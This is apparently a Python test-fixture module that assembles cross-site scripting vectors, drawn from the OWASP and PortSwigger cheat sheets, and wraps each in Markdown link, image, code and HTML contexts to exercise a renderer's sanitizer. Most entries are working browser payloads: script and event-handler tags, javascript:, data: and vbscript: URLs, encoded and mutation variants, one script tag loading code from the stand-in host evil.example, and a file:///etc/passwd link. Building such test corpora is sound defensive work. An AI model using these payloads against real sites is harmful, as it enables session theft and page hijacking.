"""A corpus of cross-site scripting vectors, in the places a colleague can type them.

Base payloads after the OWASP XSS filter evasion cheat sheet and the PortSwigger XSS cheat sheet
(script and event-handler tags, URL schemes, encodings, mutation and parser confusion), each also
wrapped in the Markdown constructs that make URLs and HTML (links, images, autolinks, reference
definitions, HTML blocks, code) and in attribute breakouts. `VECTORS` holds them all, unique.
Every payload that ran would call `xss()` or `alert()`, or set `window.__xss`.
"""

from __future__ import annotations

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script>window.__xss=1</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '<img src=x onerror="alert(1)">',
    "<img src=x onerror=alert`1`>",
    '<IMG SRC="javascript:alert(1);">',
    "<IMG SRC=JaVaScRiPt:alert(1)>",
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;"
    "&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;>",
    "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x31&#x29>",
    '<IMG SRC="jav\tascript:alert(1);">',
    '<IMG SRC="jav&#x0A;ascript:alert(1);">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="javascript:alert(1)">',
    '<embed src="javascript:alert(1)">',
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "<marquee onstart=alert(1)>",
    '<a href="javascript:alert(1)">klik</a>',
    '<a href="  javascript:alert(1)">klik</a>',
    '<a href="java\0script:alert(1)">klik</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">klik</a>',
    '<a href="vbscript:msgbox(1)">klik</a>',
    '<form action="javascript:alert(1)"><button>x</button></form>',
    '<button formaction="javascript:alert(1)">x</button>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<link rel="stylesheet" href="javascript:alert(1)">',
    '<base href="javascript:alert(1)//">',
    "<style>@import 'javascript:alert(1)';</style>",
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<div style="width: expression(alert(1))">x</div>',
    "<!--<img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<template><img src=x onerror=alert(1)></template>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<isindex type=image src=1 onerror=alert(1)>",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    '" onmouseover="alert(1)',
    "' onfocus='alert(1)' autofocus='",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "{{7*7}}<span data-xss=\"{{constructor.constructor('alert(1)')()}}\">",
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "<scr\u0000ipt>alert(1)</scr\u0000ipt>",
    "＜script＞alert(1)＜/script＞",
    '<a href="https://example.org" onclick="alert(1)">klik</a>',
    '<a href="https://example.org" style="position:fixed;inset:0">klik</a>',
    '<img src="https://example.org/x.png" onload="alert(1)">',
    '<p id="kring-realtime">{"topics": {"org": 0}}</p>',
]

# Markdown constructs that carry a URL or raw HTML; `{}` is where a payload goes.
URL_CONTEXTS = [
    "[klik]({})",
    '[klik]({} "titel")',
    "![plaatje]({})",
    "<{}>",
    "[klik][ref]\n\n[ref]: {}",
    "[klik](<{}>)",
]
TEXT_CONTEXTS = [
    "{}",
    "**{}**",
    "`{}`",
    "```\n{}\n```",
    "> {}",
    "- {}",
    "| a | b |\n|---|---|\n| {} | x |",
    "@{}",
    "# {}",
    "<div>\n{}\n</div>",
]
URL_PAYLOADS = [
    "javascript:alert(1)",
    "JAVASCRIPT:alert(1)",
    "javascript&#58;alert(1)",
    "javascript&colon;alert(1)",
    "jav&#x09;ascript:alert(1)",
    "%6A%61%76%61%73%63%72%69%70%74:alert(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:msgbox(1)",
    "//evil.example/%0a<script>alert(1)</script>",
    'https://example.org" onmouseover="alert(1)',
    "https://example.org'><script>alert(1)</script>",
    "\x01javascript:alert(1)",
    " javascript:alert(1)",
    "java\nscript:alert(1)",
    "file:///etc/passwd",
]


def _build() -> list[str]:
    vectors: list[str] = []
    for payload in PAYLOADS:
        for context in TEXT_CONTEXTS:
            vectors.append(context.format(payload))
    for payload in URL_PAYLOADS + [p for p in PAYLOADS if p.lower().startswith(("javascript", "data", "vbscript"))]:
        for context in URL_CONTEXTS:
            vectors.append(context.format(payload))
    unique: dict[str, None] = dict.fromkeys(vectors)
    return list(unique)


VECTORS = _build()
